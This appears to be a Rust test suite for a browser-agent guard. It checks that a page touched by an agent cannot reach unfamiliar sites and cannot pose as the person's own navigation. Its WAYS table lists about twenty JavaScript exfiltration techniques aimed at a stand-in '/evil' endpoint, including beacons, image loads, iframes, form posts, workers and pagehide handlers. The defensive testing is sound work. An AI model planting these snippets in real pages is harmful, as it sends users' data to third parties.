//! No new destinations: what a touched document may send to and load from, told by what another site saw.

use crate::support::{LONG, Page, World, done};
use reins_core::Action;

/// Ways of sending something to a site that the page never had to do with.
const WAYS: &[(&str, &str)] = &[
    ("fetch", "fetch(E)"),
    ("post", "fetch(E,{method:'POST',mode:'no-cors',body:'x'})"),
    ("keepalive", "fetch(E,{method:'POST',mode:'no-cors',keepalive:true,body:'x'})"),
    ("xhr", "let x=new XMLHttpRequest();x.open('GET',E);x.send()"),
    ("beacon", "navigator.sendBeacon(E,'x')"),
    ("image", "new Image().src=E"),
    ("style", "document.body.style.background='url('+E+')'"),
    (
        "style sheet",
        "let l=document.createElement('link');l.rel='stylesheet';l.href=E;document.head.append(l)",
    ),
    (
        "prefetch",
        "let l=document.createElement('link');l.rel='prefetch';l.href=E;document.head.append(l)",
    ),
    ("script", "let l=document.createElement('script');l.src=E;document.head.append(l)"),
    ("module", "import(E).catch(()=>{})"),
    ("font", "new FontFace('q','url('+E+')').load().catch(()=>{})"),
    ("frame", "let i=document.createElement('iframe');i.src=E;document.body.append(i)"),
    (
        "form into a frame",
        "let i=document.createElement('iframe');i.name='t';document.body.append(i);f.target='t';f.method='post';f.action=E;f.submit()",
    ),
    (
        "inside a made frame",
        "let i=document.createElement('iframe');i.srcdoc='<img src='+E+'>';document.body.append(i)",
    ),
    (
        "inside a sandboxed frame",
        "let i=document.createElement('iframe');i.sandbox='allow-scripts';i.src='data:text/html,<img src='+E+'>';document.body.append(i)",
    ),
    ("own server's redirect", "fetch('/hop',{mode:'no-cors'})"),
    ("event stream", "new EventSource(E)"),
    (
        "worker",
        "new Worker(URL.createObjectURL(new Blob(['fetch(\"'+E+'\",{mode:\"no-cors\"})'])))",
    ),
    (
        "blob page",
        "location.href=URL.createObjectURL(new Blob(['<img src='+E+'>'],{type:'text/html'}))",
    ),
    (
        "goodbye",
        "addEventListener('pagehide',()=>navigator.sendBeacon(E,'x'));location.href='/own'",
    ),
    ("timer", "setTimeout(()=>fetch(E),200)"),
];

fn hostile(way: &str) -> String {
    format!(
        "<h1>Page</h1><form id=f><input type=hidden name=q value=1></form><button onclick=\"go()\">Press</button>\
         <script>const E='http://localhost:'+location.port+'/evil?x';function go(){{{way}}}</script>"
    )
}

fn home(world: &World) -> Action {
    Action::Navigate { tab: world.tab.clone(), url: world.site.url("/") }
}

/// whatever the handler of an approved click uses, nothing reaches a site that is new.
#[tokio::test]
async fn r221_a_touched_page_sends_nothing_to_a_site_it_did_not_know() {
    let world = World::start([("/evil", Page::html("evil")), ("/own", Page::html("own"))]).await;
    world.site.set("/hop", Page::redirect(302, &world.site.other_url("/evil")));
    for (name, way) in WAYS {
        world.site.set("/", Page::html(&hostile(way)));
        done(&world.act_guarded(home(&world)).await);
        let acted = world.click_guarded("Press").await;
        done(&acted);
        world.page_waits(300).await;
        assert_eq!(world.arrived("evil"), Vec::<String>::new(), "{name} {acted:?}");
        // What comes after the step is told with the next one.
        let next = world.act_guarded(home(&world)).await;
        let told = [acted.effects.refused, next.effects.refused].concat().join(" ");
        assert!(told.contains("localhost"), "{name}: {told:?}");
    }
}

/// What the page loaded or named before, and its own site, stays open to it; so does everything once the
/// person acts there.
#[tokio::test]
async fn r221_known_sites_stay_open_and_the_person_opens_the_rest() {
    let page = "<h1>Page</h1><button onclick=\"fetch(E+'known?'+document.title,{mode:'no-cors'});fetch('/own')\">Press</button>\
        <script>const E='http://localhost:'+location.port+'/'</script>";
    let world = World::start([
        ("/known", Page::html("known")),
        ("/own", Page::html("own")),
        ("/before", Page::raw("text/javascript", "")),
    ])
    .await;
    let other = world.site.other_url("/before");
    for named in [
        format!("<script src='{other}'></script>"),
        format!("<iframe src='{other}'></iframe>"),
        format!("<img loading=lazy style='margin-top:9999px' src='{other}'>"),
        format!("<link rel=preconnect href='{other}'>"),
    ] {
        let title = named[1..4].to_owned();
        world.site.set("/", Page::html(&format!("<title>{title}</title>{page}{named}")));
        done(&world.act_guarded(home(&world)).await);
        let acted = world.click_guarded("Press").await;
        assert_eq!(done(&acted).refused, Vec::<String>::new(), "{named}");
        let known = format!("/known?{title}");
        assert!(world.site.wait_for(LONG, |seen| seen.path == known).await, "{named}");
    }
    world.site.set("/", Page::html(page));
    done(&world.act_guarded(home(&world)).await);
    let before = world.arrived("/known").len();
    let acted = world.click_guarded("Press").await;
    assert!(done(&acted).refused.join(" ").contains("localhost"), "{acted:?}");
    assert_eq!(world.arrived("/known").len(), before);
    world.person_clicks().await;
    world.eval("fetch(E+'known',{mode:'no-cors'}).then(()=>1)").await;
    assert_eq!(world.arrived("/known").len(), before + 1);
}

/// the person goes elsewhere by the browser's own address bar; a page cannot pass for them.
#[tokio::test]
async fn r182_a_navigation_of_the_browsers_own_is_the_persons() {
    let world = World::start([
        ("/", Page::html("<button>Press</button>")),
        ("/elsewhere", Page::html("<h1>Elsewhere</h1>")),
    ])
    .await;
    done(&world.act_guarded(home(&world)).await);
    done(&world.click_guarded("Press").await);
    let elsewhere = world.site.other_url("/elsewhere?page");
    world.eval(&format!("void setTimeout(()=>location.href={elsewhere:?},10)")).await;
    world.page_waits(200).await;
    assert_eq!(world.arrived("/elsewhere"), Vec::<String>::new(), "the page asked");
    let elsewhere = world.site.other_url("/elsewhere?person");
    let (_connection, person) = world.stranger().await;
    let navigate = serde_json::json!({"url": elsewhere, "transitionType": "typed"});
    let _: serde_json::Value = person.call("Page.navigate", navigate, LONG).await.unwrap();
    assert!(world.site.wait_for(LONG, |seen| seen.path == "/elsewhere?person").await);
}
